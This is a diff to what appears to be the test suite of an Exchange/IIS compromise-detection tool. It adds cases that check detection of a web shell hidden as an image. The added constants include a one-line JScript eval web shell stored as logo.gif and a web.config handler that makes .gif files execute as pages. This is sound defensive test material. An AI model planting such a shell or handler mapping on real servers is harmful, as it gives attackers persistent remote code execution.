@@ -16,6 +16,11 @@ internal static class FileCases
     private const string OwaBin = @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\bin\";
     private const string Module = "<configuration><system.webServer><modules><add name=\"Diag\" type=\"Diag.Hook, Diag\"/></modules></system.webServer></configuration>";
 
+    private const string Picture = @"C:\inetpub\wwwroot\aspnet_client\img\logo.gif";
+    private const string PictureConfig = @"C:\inetpub\wwwroot\aspnet_client\img\web.config";
+    private const string PictureHandler = "<configuration><system.webServer><handlers><add name=\"g\" path=\"*.gif\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers></system.webServer></configuration>";
+    private const string Runs = "<%@ Page Language=\"JScript\"%><%eval(Request[\"k\"])%>";
+
     public static IEnumerable<AccuracyCase> All =>
     [
         Of("file-foreign-page", () => Bare().Page(OwaAuth + "OutlookEN.US.aspx"), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("unattributed", Compromised)] },
@@ -32,6 +37,10 @@ internal static class FileCases
             with { Says = ["hidden"] },
         Of("config-module-without-signature", () => March2021().With(b => b.File(OwaBin + "Diag.dll", [.. "MZ"u8, .. new byte[600]])).File(OwaConfig, Module), Shapes.Kape, Vulnerable, Suspected, 13) with { States = [("iis-modules", Suspected)], Must = ["iis-modules:persistence"] },
         Of("config-module-without-library", () => March2021().File(OwaConfig, Module), Shapes.Kape, Vulnerable, NotFound, 10) with { MustNot = ["iis-modules:persistence"], Says = ["needs an explanation"] },
+        Of("config-runs-pictures", () => March2021().File(Picture, Runs).File(PictureConfig, PictureHandler), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:wroteFile"] },
+        Of("config-runs-no-pictures", () => March2021().File(Picture, Runs).File(PictureConfig, PictureHandler.Replace("PageHandlerFactory", "StaticFileHandler", StringComparison.Ordinal)), Shapes.Kape, Vulnerable, NotFound, 10),
+        Of("config-runs-pictures-elsewhere", () => March2021().File(Picture, Runs).File(@"C:\inetpub\wwwroot\shop\web.config", PictureHandler), Shapes.Kape, Vulnerable, Suspected, 13) with { MustNot = ["unattributed:wroteFile"] },
+        Of("picture-takes-data", () => March2021().With(b => b.Use(Intrusion2021, "/aspnet_client/img/logo.gif")), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:shellUsed"] },
         Of("config-plain", () => Bare().ApplicationHost(@"C:\inetpub\logs\LogFiles"), Shapes.Kape, Vulnerable, CannotExclude, 11),
         Of("shell-removed", () => March2021().Page(@"C:\inetpub\wwwroot\iisstart.htm", "<html>IIS</html>").With(b => b.Use(Intrusion2021, "/aspnet_client/gone.aspx")), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:shellUsed"] },
         Of("shell-behind-shipped-name", () => Bare().Page(OwaAuth + @"Current\themes\logon.aspx"), Shapes.Kape, Vulnerable, Compromised, 14),
